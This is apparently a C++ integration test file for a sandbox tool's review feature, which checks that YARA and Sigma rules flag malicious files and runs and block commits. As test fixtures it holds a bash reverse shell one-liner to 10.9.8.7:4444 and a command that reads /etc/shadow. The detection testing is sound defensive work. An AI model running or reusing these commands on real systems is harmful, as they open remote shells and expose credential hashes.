// `airlock box review` (docs/BOXES.md): the content of a box's files (airlock-scan in a sandbox) and the
// behaviour of its monitored runs (Sigma rules) judged for real, with the controls that show each part
// is what catches it: the same box reviewed without the scan, or a box that was not monitored, is clean.
// Runs as root (integration.root: the layers are idmapped, the upper files are host root's in a 0700
// store) and as uid 65534 (integration.user).
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <nlohmann/json.hpp>

#include <filesystem>

#include "box_fixture.h"
#include "test_env.h"

using namespace airlock::test;

namespace {

// A reverse shell one-liner: project YARA rule Reverse_Shell_Unix (rules/yara/webshells.yar, T1059.004).
// In a file under /data/tools/, a path no review rule knows.
const char* kDropReverseShell =
    "mkdir -p /data/tools && printf '#!/bin/sh\\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1\\n' > /data/tools/update.sh";

class BoxReview : public BoxFixture {
 protected:
  nlohmann::json ReviewJson(const std::string& box, std::vector<std::string> extra, RunResult* r) {
    std::vector<std::string> args = {"review", box, "--json"};
    args.insert(args.end(), extra.begin(), extra.end());
    *r = BoxCmd(args);
    return nlohmann::json::parse(r->out, nullptr, false);
  }
  // The "files" entry of `path` in a review document (null when absent).
  static nlohmann::json FileEntry(const nlohmann::json& review, const std::string& path) {
    if (!review.is_object() || !review.contains("files")) return nullptr;
    for (const auto& f : review["files"]) {
      if (f.value("path", "") == path) return f;
    }
    return nullptr;
  }
  static bool HasNote(const nlohmann::json& review, const std::string& part) {
    if (!review.is_object() || !review.contains("notes")) return false;
    for (const auto& n : review["notes"]) {
      if (n.get<std::string>().find(part) != std::string::npos) return true;
    }
    return false;
  }

};

TEST_F(BoxReview, ContentScanFindsAReverseShellThatNoPathRuleKnows) {
  ASSERT_EQ(BoxCmd({"create", "c1", "--over", tree_ + ":/data"}).exit_code, 0);
  auto run = BoxCmd({"run", "c1", "--", "/bin/sh", "-c", kDropReverseShell});
  ASSERT_EQ(run.exit_code, 0) << run.err;

  RunResult r;
  auto j = ReviewJson("c1", {}, &r);
  ASSERT_TRUE(j.is_object()) << r.out << r.err;
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  EXPECT_EQ(j.value("verdict", ""), "malicious");
  auto f = FileEntry(j, "/data/tools/update.sh");
  ASSERT_TRUE(f.is_object()) << r.out;
  EXPECT_EQ(f.value("verdict", ""), "malicious");
  bool yara = false;
  for (const auto& finding : f["findings"]) {
    if (finding.value("rule", "") != "yara.Reverse_Shell_Unix") continue;
    yara = true;
    EXPECT_EQ(finding.value("level", ""), "high");
    EXPECT_EQ(finding.value("severity", 0), 8);
    EXPECT_EQ(finding["techniques"], nlohmann::json::array({"T1059.004"}));
  }
  EXPECT_TRUE(yara) << r.out;
  // The copies the scan read are gone; the store keeps its modes.
  for (const auto& e : std::filesystem::directory_iterator(store_ + "/c1")) {
    EXPECT_EQ(e.path().filename().string().rfind("scan-", 0), std::string::npos) << e.path();
  }
  struct stat st {};
  ASSERT_EQ(::stat((store_ + "/c1").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 077, 0u);

  // The control: by its path alone the file is clean, and the review says the content was not scanned.
  auto paths_only = ReviewJson("c1", {"--no-scan"}, &r);
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_EQ(paths_only.value("verdict", ""), "clean");
  EXPECT_TRUE(HasNote(paths_only, "content not scanned")) << r.out;
  EXPECT_NE(BoxCmd({"review", "c1", "--no-scan"}).out.find("content not scanned"), std::string::npos);

  // The gate: commit refuses, the host keeps its tree.
  auto c = BoxCmd({"commit", "c1"});
  EXPECT_NE(c.exit_code, 0);
  EXPECT_NE(c.err.find("malicious"), std::string::npos) << c.err;
  EXPECT_FALSE(std::filesystem::exists(tree_ + "/tools"));
}

TEST_F(BoxReview, ABenignFileIsCleanAndCommits) {
  ASSERT_EQ(BoxCmd({"create", "c2", "--over", tree_ + ":/data"}).exit_code, 0);
  ASSERT_EQ(BoxCmd({"run", "c2", "--", "/bin/sh", "-c", "echo 'shopping: milk, bread' > /data/notes.txt"}).exit_code, 0);
  RunResult r;
  auto j = ReviewJson("c2", {}, &r);
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_EQ(j.value("verdict", ""), "clean");
  EXPECT_EQ(FileEntry(j, "/data/notes.txt").value("verdict", ""), "clean");
  EXPECT_FALSE(HasNote(j, "content not scanned")) << r.out;
  auto c = BoxCmd({"commit", "c2"});
  EXPECT_EQ(c.exit_code, 0) << c.out << c.err;
  EXPECT_EQ(ReadFileOrEmpty(tree_ + "/notes.txt"), "shopping: milk, bread\n");
}

// credential_file_access_cmdline.yml (rules/behavior): a command line naming /etc/shadow, T1003.008.
TEST_F(BoxReview, AMonitoredBoxsRunBehaviourIsReported) {
  const std::vector<std::string> cmd = {"--", "/bin/sh", "-c", "cat /etc/shadow 2>/dev/null; echo done > /data/log.txt"};
  ASSERT_EQ(BoxCmd({"create", "m1", "--over", tree_ + ":/data", "--monitor"}).exit_code, 0);
  std::vector<std::string> run = {"run", "m1"};
  run.insert(run.end(), cmd.begin(), cmd.end());
  auto r = BoxCmd(run);
  ASSERT_EQ(r.exit_code, 0) << r.err;
  // The run record: one file, private.
  std::vector<std::filesystem::path> records;
  for (const auto& e : std::filesystem::directory_iterator(store_ + "/m1/events")) records.push_back(e.path());
  ASSERT_EQ(records.size(), 1u);
  struct stat st {};
  ASSERT_EQ(::stat(records[0].c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0600u);

  auto j = ReviewJson("m1", {}, &r);
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  EXPECT_EQ(j.value("verdict", ""), "malicious");
  bool sigma = false;
  for (const auto& f : j["findings"]) {
    if (f.value("rule", "").find("Credential File On A Command Line") == std::string::npos) continue;
    sigma = true;
    EXPECT_EQ(f.value("level", ""), "high");
    EXPECT_NE(std::find(f["techniques"].begin(), f["techniques"].end(), "T1003.008"), f["techniques"].end()) << f.dump();
    EXPECT_NE(f.value("evidence", "").find("/etc/shadow"), std::string::npos);
  }
  EXPECT_TRUE(sigma) << r.out;
  EXPECT_NE(BoxCmd({"review", "m1"}).out.find("T1003.008"), std::string::npos);

  // The control: the same run in a box that is not monitored leaves nothing to judge.
  ASSERT_EQ(BoxCmd({"create", "m2", "--over", tree_ + ":/data"}).exit_code, 0);
  run[1] = "m2";
  ASSERT_EQ(BoxCmd(run).exit_code, 0);
  auto quiet = ReviewJson("m2", {}, &r);
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_TRUE(HasNote(quiet, "behaviour not recorded")) << r.out;

  // A monitored box records every run itself: --monitor FILE is refused; discard clears the records.
  auto own = BoxCmd({"run", "m1", "--monitor", dir_ + "/mine.jsonl", "--", "/bin/true"});
  EXPECT_NE(own.exit_code, 0);
  EXPECT_NE(own.err.find("records every run"), std::string::npos) << own.err;
  ASSERT_EQ(BoxCmd({"discard", "m1"}).exit_code, 0);
  EXPECT_TRUE(std::filesystem::is_empty(store_ + "/m1/events"));
  EXPECT_EQ(BoxCmd({"review", "m1"}).exit_code, 0);
}

TEST_F(BoxReview, WithoutTheScannerTheReviewIsAnErrorNeverASilentClean) {
  ASSERT_EQ(BoxCmd({"create", "s1", "--over", tree_ + ":/data"}).exit_code, 0);
  ASSERT_EQ(BoxCmd({"run", "s1", "--", "/bin/sh", "-c", "echo hello > /data/x.txt"}).exit_code, 0);
  // A lone copy of the front end: no airlock-scan beside it, in a build tree or an install layout.
  const std::string bin = dir_ + "/bin";
  std::filesystem::create_directories(bin);
  std::filesystem::copy_file(AirlockBin(), bin + "/airlock");
  auto r = BoxCmdVia({}, bin + "/airlock", {"review", "s1"});
  EXPECT_EQ(r.exit_code, 2) << r.out << r.err;
  EXPECT_NE(r.err.find("airlock-scan was not found"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("not scanned"), std::string::npos) << r.err;
  EXPECT_EQ(r.out.find("verdict"), std::string::npos) << r.out;
  auto c = BoxCmdVia({}, bin + "/airlock", {"commit", "s1"});
  EXPECT_NE(c.exit_code, 0);
  EXPECT_FALSE(std::filesystem::exists(tree_ + "/x.txt"));
  r = BoxCmdVia({}, bin + "/airlock", {"review", "s1", "--no-scan"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("content not scanned (--no-scan)"), std::string::npos) << r.out;

  // A scanner that fails (the override of core/helper_path.h): an error too.
  const std::string fake = dir_ + "/libexec";
  std::filesystem::create_directories(fake);
  WriteFile(fake + "/airlock-scan", "#!/bin/sh\necho 'broken scanner' >&2\nexit 2\n", 0755);
  ::chmod(dir_.c_str(), 0755);  // (the bind root and its file must be readable by the sandbox's ids)
  ::chmod(fake.c_str(), 0755);
  r = BoxCmdVia({"/usr/bin/env", "AIRLOCK_LIBEXEC_DIR=" + fake}, AirlockBin(), {"review", "s1"});
  EXPECT_EQ(r.exit_code, 2) << r.out << r.err;
  EXPECT_NE(r.err.find("content scan failed"), std::string::npos) << r.err;
}

}  // namespace
